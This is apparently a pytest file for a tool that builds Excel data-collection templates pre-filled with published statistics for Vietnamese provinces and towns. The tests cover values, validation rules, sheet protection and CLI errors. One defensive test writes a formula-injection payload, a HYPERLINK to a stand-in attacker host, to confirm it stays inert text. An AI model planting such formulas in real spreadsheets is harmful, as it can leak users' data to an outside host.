"""The collection template pre-filled for one unit and year, its validation and protection.

Expected figures are read straight from ``data/observations/*.csv`` with the
csv module, not from the loader the template uses.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import openpyxl
import pandas as pd
import pytest

from learningcity.cli import main
from learningcity.data import read_observations
from learningcity.paths import data_dir
from learningcity.workbook import FILL_COLUMNS, write_template

AREA2 = "2 Major building blocks"
DATA_SHEETS = ["Context", "1 Wider benefits", AREA2, "3 Fundamental conditions"]


def published(code: str, level: str, up_to: int) -> dict[str, tuple]:
    """The latest non-empty figure per indicator of a unit, from the CSV files themselves."""
    latest: dict[str, tuple] = {}
    for path in sorted((data_dir() / "observations").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.DictReader(f):
                if row["unit_code"] != code or row["level"] != level or not row["value"]:
                    continue
                year = int(row["year"])
                if year <= up_to and (row["indicator"] not in latest or
                                      latest[row["indicator"]][0] < year):  # fmt: skip
                    latest[row["indicator"]] = (
                        year,
                        float(row["value"]),
                        row["qualifier"],
                        row["source_id"],
                    )
    return latest


def lines(book: openpyxl.Workbook) -> dict[str, dict[str, object]]:
    """Every template line of the data sheets, by indicator: column -> cell."""
    out = {}
    for name in DATA_SHEETS:
        sheet = book[name]
        header = [c.value for c in sheet[1]]
        for r in range(2, sheet.max_row + 1):
            var = sheet.cell(r, 1).value
            if var:
                out[var] = {c: sheet.cell(r, j + 1) for j, c in enumerate(header)}
    return out


def read_back(path) -> dict[str, tuple]:
    obs = read_observations(path)
    return {
        r.indicator: (int(r.year), float(r.value), r.qualifier, r.source_id)
        for r in obs.itertuples()
    }


@pytest.fixture(scope="module")
def yen_bai_2016(tmp_path_factory):
    path = tmp_path_factory.mktemp("prefill") / "yen-bai-2016.xlsx"
    assert main(["template", str(path), "--unit", "Tỉnh Yên Bái", "--year", "2016"]) == 0
    return path


def test_prefilled_values_are_the_published_ones(yen_bai_2016):
    expected = published("15", "province", 2016)
    assert len(expected) >= 20  # the GSO series of provinces-gso.csv
    assert read_back(yen_bai_2016) == expected
    book = openpyxl.load_workbook(yen_bai_2016)
    rows = lines(book)
    for var, cells in rows.items():
        # The unit on every line, so the collector only types values.
        assert [cells[c].value for c in ("unit_code", "unit_name", "level")] == [
            "15",
            "Yên Bái",
            "province",
        ]
        if var in expected:
            assert cells["note"].value.startswith("đã công bố / published (")
    # Not published for the province up to 2016 (the first figure is of 2018): blank.
    assert "learning_families_share" not in expected
    blank = rows["learning_families_share"]
    assert [blank[c].value for c in ("year", "value", "qualifier", "source_id", "note")] == [
        None
    ] * 5
    assert main(["validate", str(yen_bai_2016)]) == 0


def test_a_city_that_is_one_district_takes_the_district_figures(tmp_path, capsys):
    path = tmp_path / "yb-city.xlsx"
    assert main(["template", str(path), "--unit", "yen-bai", "--year", "2023"]) == 0
    expected = published("132", "district", 2023)
    assert expected["gnlc_application_year"] == (2023, 2023.0, "", "seed-cdkh-2024-01-18")
    assert "commune_level_units" not in expected  # published for 2025 only
    assert read_back(path) == expected
    assert "Yên Bái (district 132" in capsys.readouterr().out


def test_a_city_after_the_reform_gets_its_old_town_figures_carried(tmp_path, capsys):
    path = tmp_path / "nghia-lo.xlsx"
    assert main(["template", str(path), "--unit", "Nghĩa Lộ", "--year", "2025"]) == 0
    assert "city nghia-lo" in capsys.readouterr().out
    town = published("133", "district", 2025)
    got = read_back(path)
    # Nothing is published for the new wards themselves; every town figure is carried
    # but the number of its communes, which the crosswalk never combines (combine: none).
    assert "commune_level_units" in town
    assert set(got) == set(town) - {"commune_level_units"}
    # One old town carried to the city: the same figure, approximate (two of its
    # communes went into a ward outside the city).
    assert got["population"] == (2020, 68206.0, "~", "wiki-en-nghia-lo")
    assert got["population"][:2] == town["population"][:2]
    assert got["gnlc_application_year"] == town["gnlc_application_year"]
    cells = lines(openpyxl.load_workbook(path))["population"]
    assert [cells[c].value for c in ("unit_code", "unit_name", "level")] == [
        "nghia-lo",
        "Nghĩa Lộ",
        "city",
    ]
    assert "carried" in cells["note"].value and "Thị xã Nghĩa Lộ (133)" in cells["note"].value
    assert main(["validate", str(path)]) == 0


def rule_of(sheet, cell):
    found = [dv for dv in sheet.data_validations.dataValidation if cell.coordinate in dv.sqref]
    assert len(found) == 1, cell.coordinate
    return found[0]


def test_data_validation_of_value_year_and_qualifier(yen_bai_2016):
    book = openpyxl.load_workbook(yen_bai_2016)
    rows = lines(book)
    share = rows["learning_families_share"]["value"]
    rule = rule_of(share.parent, share)
    assert (rule.type, rule.operator, rule.formula1, rule.formula2) == (
        "decimal",
        "between",
        "0",
        "100",
    )
    assert "0" in rule.prompt and "100" in rule.error and "Nhập" in rule.prompt
    assert "The value must be" in rule.error
    count = rows["literacy_classes"]["value"]
    rule = rule_of(count.parent, count)
    assert (rule.type, rule.operator, rule.formula1) == ("whole", "greaterThanOrEqual", "0")
    year = rows["literacy_classes"]["year"]
    rule = rule_of(year.parent, year)
    assert (rule.type, rule.operator) == ("whole", "between")
    assert (rule.formula1, rule.formula2) == ("1990", str(dt.date.today().year))
    qualifier = rows["population"]["qualifier"]
    rule = rule_of(qualifier.parent, qualifier)
    assert (rule.type, rule.formula1, rule.allow_blank) == ("list", '">,<,~"', True)
    assert rule.errorTitle and rule.promptTitle


def test_definitions_are_locked_and_fill_cells_open(yen_bai_2016):
    book = openpyxl.load_workbook(yen_bai_2016)
    for name in DATA_SHEETS:
        sheet = book[name]
        assert sheet.protection.sheet and not sheet.protection.password
        assert all(c.protection.locked for c in sheet[1])  # the header
    cells = lines(book)["learning_families_share"]
    for col in ("indicator", "name_en", "name_vi", "unit_of_measure", "valid_range"):
        assert cells[col].protection.locked, col
    for col in ("year", "value", "qualifier", "source_id", "note"):
        assert not cells[col].protection.locked, col
    assert not book["Sources"].protection.sheet  # new sources are added there


def test_formula_like_source_and_note_stay_text(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?leak=1","click")'
    obs = pd.DataFrame(
        {
            "unit_code": ["15"],
            "unit_name": ["Yên Bái"],
            "level": ["province"],
            "year": [2016],
            "indicator": ["literacy_classes"],
            "value": [12.0],
            "qualifier": [""],
            "source_id": [hostile],
            "note": ["=1+1"],
        }
    )
    path = write_template(tmp_path / "h.xlsx", unit="Tỉnh Yên Bái", year=2016, observations=obs)
    cells = lines(openpyxl.load_workbook(path))["literacy_classes"]
    assert cells["value"].value == 12
    assert cells["source_id"].value == hostile
    assert cells["source_id"].data_type == "s" and cells["source_id"].quotePrefix
    assert cells["note"].data_type == "s" and cells["note"].value.endswith(": =1+1")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_usage_errors_exit_2(tmp_path, capsys):
    out = tmp_path / "x.xlsx"
    assert main(["template", str(out), "--unit", "Xã Không Có", "--year", "2025"]) == 2
    assert "no unit named or coded 'Xã Không Có'" in capsys.readouterr().err
    assert main(["template", str(out), "--year", "2025"]) == 2
    assert "--unit" in capsys.readouterr().err
    assert main(["template", str(out), "--unit", "Tỉnh Yên Bái", "--year", "2999"]) == 2
    assert "year 2999" in capsys.readouterr().err
    # A name without a year is still taken as a code, with a hint.
    assert main(["template", str(out), "--unit", "Nghĩa Lộ"]) == 2
    assert "--year" in capsys.readouterr().err
    assert not out.exists()


def test_without_a_unit_nothing_is_filled(tmp_path):
    path = write_template(tmp_path / "plain.xlsx")
    for var, cells in lines(openpyxl.load_workbook(path)).items():
        assert [cells[c].value for c in FILL_COLUMNS] == [None] * len(FILL_COLUMNS), var
    assert len(read_observations(path)) == 0


def test_two_gso_figures_of_yen_bai_read_from_the_csv_with_pandas(yen_bai_2016, tmp_path, capsys):
    gso = pd.read_csv(
        data_dir() / "observations" / "provinces-gso.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    gso = gso[(gso["unit_code"] == "15") & (gso["level"] == "province") & (gso["value"] != "")]
    gso = gso.assign(year=gso["year"].astype(int))
    gso = gso[gso["year"] <= 2016].sort_values("year", kind="stable")
    latest = gso.drop_duplicates("indicator", keep="last").set_index("indicator")
    rows = lines(openpyxl.load_workbook(yen_bai_2016))
    obs = read_observations(yen_bai_2016).set_index("indicator")
    # A count (the 2015 figure is the latest up to 2016) and a share.
    for var in ("university_students", "poverty_rate"):
        want = latest.loc[var]
        cells = rows[var]
        assert cells["value"].value == pytest.approx(float(want["value"])), var
        assert cells["year"].value == int(want["year"]), var
        assert cells["source_id"].value == want["source_id"], var
        assert cells["note"].value.startswith("đã công bố / published"), var
        assert float(obs.loc[var, "value"]) == pytest.approx(float(want["value"]))
    assert rows["university_students"]["year"].value == 2015
    # A line with nothing published: the unit is filled, the rest blank to collect.
    blank = rows["learning_families_share"]
    assert blank["unit_code"].value == "15" and blank["value"].value is None
    assert blank["year"].value is None and "learning_families_share" not in obs.index
    # An unknown unit: the resolver's message, exit 2, no file.
    out = tmp_path / "nowhere.xlsx"
    assert main(["template", str(out), "--unit", "Tỉnh Không Có", "--year", "2016"]) == 2
    assert "Tỉnh Không Có" in capsys.readouterr().err
    assert not out.exists()


def test_a_new_province_names_whose_figures_came_before_it(tmp_path, capsys):
    # Lào Cai (15) exists from 1 July 2025; every figure before is of Lào Cai (10) or
    # Yên Bái (15 until then), and a row's code is read in its year's geography.
    path = tmp_path / "lao-cai.xlsx"
    assert main(["template", str(path), "--unit", "Tỉnh Lào Cai", "--year", "2025"]) == 0
    out = capsys.readouterr().out
    assert "0 published figure(s)" in out
    assert "those of Tỉnh Lào Cai (10), Tỉnh Yên Bái (15), under their own codes" in out
    assert "--unit 10 --year 2024" in out
    assert read_back(path) == {}
